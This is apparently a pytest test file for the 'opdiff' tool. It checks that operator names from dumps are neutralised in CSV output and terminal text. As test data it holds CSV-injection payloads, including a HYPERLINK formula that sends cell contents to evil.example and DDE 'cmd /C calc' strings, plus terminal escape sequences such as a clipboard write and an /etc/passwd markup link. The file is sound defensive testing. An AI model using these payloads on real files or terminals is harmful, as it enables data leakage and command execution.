"""Names from a dump are data: no formula runs when the CSV is opened in a spreadsheet, no
escape sequence reaches the user's terminal, no rich markup in a name is interpreted (real
dumps written by opdiff's DumpWriter, real CLI runs)."""
from __future__ import annotations

import csv

import pytest

from opdiff.cli import main
from opdiff.report.csv_report import safe_cell

from outputs_kit import cli, write_dump

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HOSTILE = ["Torch.\x1b]0;pwned\x07title", "Torch.\x1b[2J\x1b[1;1Hcleared",
           "Torch.\x9b31mc1\u202eevil", "Torch.multi\nFirst divergence: Functional.innocent"]
MARKUP = "Torch.[bold red]BOLD[/bold red][link=file:///etc/passwd]x[/link]"


def read_csv(out):
    [path] = out.glob("compare_result_*.csv")
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.fixture(scope="module")
def formula_dumps(tmp_path_factory):
    root = tmp_path_factory.mktemp("formula")
    ops = ["Functional.relu", *FORMULAS]
    return write_dump(root / "t", ops, wrong=1), write_dump(root / "g", ops)


def test_formula_cells_are_neutralised_and_numbers_stay_numbers(formula_dumps, tmp_path, capsys):
    out = tmp_path / "out"
    assert main(["compare", str(formula_dumps[0]), str(formula_dumps[1]), "-o", str(out),
                 "--no-progress"]) == 0
    capsys.readouterr()
    header, *rows = read_csv(out)
    names = [r[header.index("NPU Name")] for r in rows]
    for formula in FORMULAS:                     # every hostile name is there, shown as text
        shown = "\\x0d" + formula[1:] if formula[0] == "\r" else f"'{formula}"   # a CR: escaped
        assert f"{shown}.0.forward.output.0" in names
    numeric = [i for i, h in enumerate(header) if "diff" in h or "Err" in h and h != "Err_message"
               or h.startswith(("NPU ", "Bench ")) and h.split()[-1] in ("max", "min", "mean",
                                                                          "l2norm")]
    negative = 0
    for row in rows:
        for i, cell in enumerate(row):
            if i in numeric:
                if cell != "N/A":
                    negative += float(cell) < 0          # a number, parsed as msprobe users do
                    assert not cell.startswith("'")
            else:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (header[i], cell)
    assert negative > 0          # the wrong op's Min diff and every min: negatives stayed numbers


def test_safe_cell_only_touches_text_that_a_spreadsheet_would_run():
    for number in ("-0.5", "-inf", "+1e-05", "-1.5E+10", "-3", ".5", "NaN", "-Infinity"):
        assert safe_cell(number) == number
    for text in ("-", "-x", "+", "=1", "@a", "\tx", "-1+1", "-inf+cmd"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("\rx") == "\\x0dx"        # a CR is a control character: shown, not sent
    assert safe_cell(-2.5) == -2.5 and safe_cell("Functional.relu") == "Functional.relu"


def test_the_msit_csv_is_neutralised_too(tmp_path):
    from opdiff.onnx.msit_csv import MsitRow, write_msit_csv

    path = write_msit_csv(tmp_path / "r.csv", [MsitRow("=Conv", "@node", "float32", "+g",
                                                       "float32", "0", "[1]", location="-x")])
    row = list(csv.reader(open(path, newline="", encoding="utf-8")))[1]
    assert row[1:5] == ["'=Conv", "'@node", "float32", "'+g"] and row[-1] == "'-x"


@pytest.fixture(scope="module")
def hostile_dumps(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    ops = ["Functional.relu", HOSTILE[0], MARKUP, *HOSTILE[1:]]
    frame = ("/work/\x1b[31mmodel.py", 3, "forw\x1b[5mard", "y = f(x)  # \x1b]52;c;cHduZWQ=\x07")
    return (write_dump(root / "t", ops, wrong=(1, 2, 3, 4, 5), frame=frame),
            write_dump(root / "g", ops, frame=frame))


RAW = ("\x1b]0;pwned", "\x1b[2J", "\x1b[1;1H", "\x9b", "\u202e", "\x07", "\x1b]52", "\x1b[5m",
       "\x1b[31mmodel")


@pytest.mark.parametrize("colour", [False, True], ids=["pipe", "colour-terminal"])
def test_escape_sequences_from_a_dump_never_reach_the_terminal(hostile_dumps, tmp_path, colour):
    env = {"FORCE_COLOR": "1", "COLUMNS": "400", "TERM": "xterm-256color"} if colour else \
        {"NO_COLOR": "1", "TERM": "dumb"}
    result = cli("compare", *hostile_dumps, "-o", tmp_path / "out", "--no-progress",
                 extra_env=env)
    assert result.returncode == 0, result.stderr
    text = result.stdout + result.stderr
    for raw in RAW:
        assert raw not in text, (raw, text)
    assert "\\x1b]0;pwned\\x07title" in text              # shown, visibly, instead
    assert "Torch.\\x1b[2J\\x1b[1;1Hcleared" in text
    # a newline in a name cannot forge a line of opdiff's own
    assert not any(line.startswith("First divergence: Functional.innocent")
                   for line in text.splitlines())
    if colour:
        assert "\x1b[" in text          # opdiff's own colours are still there


def test_markup_in_names_is_shown_as_it_is(hostile_dumps, capsys):
    assert main(["compare", *map(str, hostile_dumps), "--no-progress"]) == 0
    out = capsys.readouterr().out
    assert out.count(MARKUP + ".0.forward") >= 1        # in the table of errors, as it is
    assert "\x1b]8;" not in out                         # and no hyperlink made of it


def test_overflow_and_trend_tables_do_not_interpret_markup(tmp_path, capsys):
    root = tmp_path / "dump"
    for step in (0, 1):
        write_dump(root, ["Functional.relu", MARKUP, "Functional.gelu"], overflow=1, step=step)
    assert main(["overflow", str(root)]) == 0
    out = capsys.readouterr().out
    assert out.count(MARKUP) >= 3, out       # the origin line and both steps' table rows


def test_error_messages_and_warnings_are_one_clean_line(tmp_path, capsys):
    bad = tmp_path / "dump\x1b]0;pwned\x07"
    bad.mkdir()
    assert main(["compare", str(bad), str(bad)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "\x1b" not in err and "\x07" not in err
    assert "\\x1b]0;pwned\\x07" in err


def test_a_dumps_environment_is_printed_escaped(tmp_path, capsys):
    import torch

    evil = {"torch": torch.__version__ + "\x1b]0;pwned\x07", "python": "3\x1b[2J"}
    target = write_dump(tmp_path / "t", ["Functional.relu"], environment=evil)
    golden = write_dump(tmp_path / "g", ["Functional.relu"], environment={"torch": "1.0",
                                                                          "python": "3.8"})
    assert main(["env", "--diff", str(target)]) == 0
    assert main(["compare", str(target), str(golden), "--no-progress"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert out.count("\\x1b]0;pwned\\x07") == 2        # opdiff env, and the compare's header
